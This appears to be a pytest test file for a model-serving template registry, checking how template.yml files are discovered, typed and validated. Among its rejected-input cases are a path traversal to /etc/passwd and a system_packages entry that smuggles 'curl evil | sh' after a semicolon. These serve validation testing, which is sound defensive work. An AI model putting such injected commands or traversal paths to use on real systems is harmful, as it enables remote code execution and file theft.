"""The template registry: discovery through HYDRO_TEMPLATES, strict template.yml validation, clear errors."""

from __future__ import annotations

from pathlib import Path

import pytest

from hydro_serving import templates as registry
from hydro_serving.builder import templates as builder_view
from hydro_serving.builder.templates import get_template, list_templates, load_template, template_dirs
from hydro_serving.errors import ConfigError, NotFound

GOOD = """\
name: {name}
description: A test template
kind: model
entrypoint: handler:Model
requirements: requirements.txt
base_image: python:3.11-slim
model_patterns: ["*.joblib", "*.pkl"]
extra: sklearn
frameworks: [sklearn]
"""


def make(root: Path, name: str, text: str | None = None) -> Path:
    folder = root / name
    folder.mkdir(parents=True)
    (folder / "template.yml").write_text(GOOD.format(name=name) if text is None else text)
    (folder / "handler.py").write_text("class Model: ...\n")
    (folder / "requirements.txt").write_text("")
    return folder


@pytest.fixture
def tdir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = tmp_path / "tpl"
    root.mkdir()
    monkeypatch.setenv("HYDRO_TEMPLATES", str(root))
    return root


def test_extra_dir_is_searched_first_and_fields_are_typed(tdir: Path) -> None:
    make(tdir, "mine")
    assert template_dirs()[0] == tdir.resolve()
    tpl = get_template("mine")
    assert tpl.kind == "model" and tpl.module == "handler" and tpl.attribute == "Model"
    assert tpl.model_patterns == ("*.joblib", "*.pkl") and tpl.frameworks == ("sklearn",)
    assert tpl.extra == "sklearn" and tpl.path == (tdir / "mine").resolve()
    assert "mine" in [t.name for t in list_templates()]


def test_defaults_apply_for_optional_keys(tdir: Path) -> None:
    make(tdir, "bare", "name: bare\nkind: function\nentrypoint: index:handle\n")
    tpl = get_template("bare")
    assert tpl.base_image == "python:3.11-slim" and tpl.requirements == "requirements.txt"
    assert tpl.model_patterns == () and tpl.extra is None and tpl.description == ""
    assert tpl.system_packages == () and tpl.healthcheck_start_period == "60s" and not tpl.has_own_dockerfile


def test_image_data_is_typed(tdir: Path) -> None:
    make(tdir, "jvm", GOOD.format(name="jvm") + "system_packages: [openjdk-17-jre-headless, 'libfoo1=1.2-3']\n"
         "healthcheck_start_period: 90\n")
    tpl = get_template("jvm")
    assert tpl.system_packages == ("openjdk-17-jre-headless", "libfoo1=1.2-3")
    assert tpl.healthcheck_start_period == "90s"  # a bare number is seconds
    assert tpl.to_dict()["system_packages"] == ["openjdk-17-jre-headless", "libfoo1=1.2-3"]


def test_unknown_template_lists_known_names(tdir: Path) -> None:
    make(tdir, "alpha")
    with pytest.raises(NotFound) as info:
        get_template("alhpa")
    assert "unknown template 'alhpa'" in info.value.message and "alpha" in info.value.message


@pytest.mark.parametrize(("text", "key"), [
    ("name: x\nkind: model\nentrypoint: h:M\nmodel_pattern: ['*.pkl']\n", "model_pattern"),
    ("name: x\nkind: model\n", "entrypoint"),
    ("kind: model\nentrypoint: h:M\n", "name"),
    ("name: x\nkind: wizard\nentrypoint: h:M\n", "kind"),
    ("name: x\nkind: model\nentrypoint: not-an-entrypoint\n", "entrypoint"),
    ("name: x\nkind: model\nentrypoint: h:M\nmodel_patterns: 3\n", "model_patterns"),
    ("name: x\nkind: model\nentrypoint: h:M\nrequirements: ../../etc/passwd\n", "requirements"),
    ("name: y\nkind: model\nentrypoint: h:M\n", "name"),
    ("name: x\nkind: model\nentrypoint: h:M\nsystem_packages: ['libgomp1; curl evil | sh']\n", "system_packages"),
    ("name: x\nkind: model\nentrypoint: h:M\nsystem_packages: {a: 1}\n", "system_packages"),
    ("name: x\nkind: model\nentrypoint: h:M\nhealthcheck_start_period: soon\n", "healthcheck_start_period"),
])
def test_bad_template_yml_names_the_key(tdir: Path, text: str, key: str) -> None:
    make(tdir, "x", text)
    with pytest.raises(ConfigError) as info:
        get_template("x")
    assert info.value.field == key
    assert "template.yml" in info.value.message


def test_invalid_yaml_and_non_mapping(tdir: Path) -> None:
    folder = make(tdir, "x", "name: [unclosed\n")
    with pytest.raises(ConfigError, match="not valid YAML"):
        load_template(folder)
    (folder / "template.yml").write_text("- a list\n")
    with pytest.raises(ConfigError, match="must be a mapping"):
        load_template(folder)


def test_repo_templates_that_exist_are_valid() -> None:
    """Every template shipped in the repository parses (those written so far)."""
    for tpl in list_templates():
        assert tpl.kind in ("model", "function", "router")
        assert (tpl.path / f"{tpl.module.replace('.', '/')}.py").exists() or (tpl.path / tpl.module).is_dir()


def test_the_registry_is_its_own_module_and_the_builder_re_exports_it() -> None:
    """Replicas import hydro_serving.templates; the builder's names are the same objects, plus its Dockerfile."""
    assert builder_view.get_template is registry.get_template and builder_view.Template is registry.Template
    assert builder_view.SHARED_DOCKERFILE.is_file() and not hasattr(registry, "SHARED_DOCKERFILE")


def test_options_is_a_json_schema_of_the_function_options(tdir: Path) -> None:
    make(tdir, "opts", GOOD.format(name="opts") + "options:\n  additionalProperties: false\n  properties:\n"
                                                  "    depth: {type: integer, minimum: 1}\n")
    tpl = get_template("opts")
    assert tpl.options_schema == {"type": "object", "additionalProperties": False,
                                  "properties": {"depth": {"type": "integer", "minimum": 1}}}
    assert tpl.to_dict()["options"] == tpl.options_schema
    assert tpl.option_errors({"depth": 3}) == []
    assert tpl.option_errors({"dept": 3})[0][0] == ("dept",)
    assert tpl.option_errors({"depth": 0})[0][0] == ("depth",)
    with pytest.raises(ConfigError) as caught:
        tpl.check_options({"depth": "deep"}, where="functions.f.options")
    assert caught.value.field == "functions.f.options.depth" and caught.value.status == 400


def test_a_template_without_options_takes_any(tdir: Path) -> None:
    make(tdir, "free")
    assert get_template("free").options_schema is None
    assert get_template("free").option_errors({"anything": {"at": "all"}}) == []


def test_every_shipped_model_template_declares_its_options() -> None:
    """A model template without a schema would silently ignore a misspelt option again."""
    for tpl in list_templates():
        if tpl.kind == "model":
            assert tpl.options_schema is not None, tpl.name
            assert tpl.options_schema.get("additionalProperties") is False, tpl.name
